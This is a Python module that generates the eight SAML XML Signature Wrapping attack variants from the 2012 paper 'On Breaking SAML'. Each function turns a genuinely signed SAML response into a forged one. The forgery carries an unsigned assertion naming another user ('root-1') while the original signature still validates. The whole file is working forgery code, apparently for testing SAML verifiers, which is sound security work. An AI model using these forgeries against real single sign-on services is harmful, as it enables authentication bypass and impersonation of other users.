"""Signature wrapping: what was signed stays in the document, and something else stands where it is read.

The eight variants of "On Breaking SAML" (Somorovsky and others, 2012). Each takes an honest answer and gives a forged one, in which
everything that was signed is still signed.
"""

from copy import deepcopy
from typing import Any

from lxml import etree

P = "{urn:oasis:names:tc:SAML:2.0:protocol}"
A = "{urn:oasis:names:tc:SAML:2.0:assertion}"
D = "{http://www.w3.org/2000/09/xmldsig#}"
EVIL = "root-1"


def parts(text: str) -> tuple[Any, Any, Any]:
    """The answer, its assertion, and the assertion's signature."""
    root = etree.fromstring(text.encode())
    assertion = root.find(f"{A}Assertion")
    return root, assertion, assertion.find(f"{D}Signature")


def evil(assertion: Any, number: str = "_evil") -> Any:
    """The same assertion about somebody else, unsigned."""
    made = deepcopy(assertion)
    made.remove(made.find(f"{D}Signature"))
    made.set("ID", number)
    made.find(f".//{A}NameID").text = EVIL
    return made


def written(root: Any) -> str:
    """The document as text."""
    return str(etree.tostring(root, encoding="unicode"))


def _evil_answer(root: Any) -> Any:
    made = deepcopy(root)
    made.set("ID", "_evil-answer")
    made.remove(made.find(f"{D}Signature"))
    old = made.find(f"{A}Assertion")
    made.replace(old, evil(old))
    return made


def one(text: str) -> str:
    """The signed answer stands inside of its own signature, in a forged answer."""
    root, _assertion, _signature = parts(text)
    made, signature = _evil_answer(root), deepcopy(root.find(f"{D}Signature"))
    inner = deepcopy(root)
    inner.remove(inner.find(f"{D}Signature"))
    signature.append(inner)
    made.insert(1, signature)
    return written(made)


def two(text: str) -> str:
    """The signed answer stands before its signature, in a forged answer."""
    root, _assertion, _signature = parts(text)
    made, signature = _evil_answer(root), deepcopy(root.find(f"{D}Signature"))
    inner = deepcopy(root)
    inner.remove(inner.find(f"{D}Signature"))
    made.insert(1, inner)
    made.insert(2, signature)
    return written(made)


def three(text: str) -> str:
    """A forged assertion stands before the signed one."""
    root, assertion, _signature = parts(text)
    assertion.addprevious(evil(assertion))
    return written(root)


def four(text: str) -> str:
    """A forged assertion holds the signed one."""
    root, assertion, _signature = parts(text)
    made = evil(assertion)
    root.replace(assertion, made)
    made.append(assertion)
    return written(root)


def five(text: str) -> str:
    """A forged assertion bears the signature of the other, which stands behind it, unsigned."""
    root, assertion, signature = parts(text)
    made = evil(assertion)
    root.replace(assertion, made)
    assertion.remove(signature)
    made.insert(1, signature)
    root.append(assertion)
    return written(root)


def six(text: str) -> str:
    """A forged assertion bears the signature of the other, which stands inside of the signature."""
    root, assertion, signature = parts(text)
    made = evil(assertion)
    root.replace(assertion, made)
    assertion.remove(signature)
    made.insert(1, signature)
    signature.append(assertion)
    return written(root)


def seven(text: str) -> str:
    """The signed assertion stands among the extensions; the forged one has its number."""
    root, assertion, _signature = parts(text)
    made = evil(assertion, assertion.get("ID"))
    root.replace(assertion, made)
    extensions = etree.SubElement(root, f"{P}Extensions")
    extensions.append(assertion)
    root.insert(1, extensions)
    return written(root)


def eight(text: str) -> str:
    """A forged assertion bears the signature, in which an object holds what was signed."""
    root, assertion, signature = parts(text)
    made = evil(assertion, assertion.get("ID"))
    root.replace(assertion, made)
    assertion.remove(signature)
    made.insert(1, signature)
    etree.SubElement(signature, f"{D}Object").append(assertion)
    return written(root)
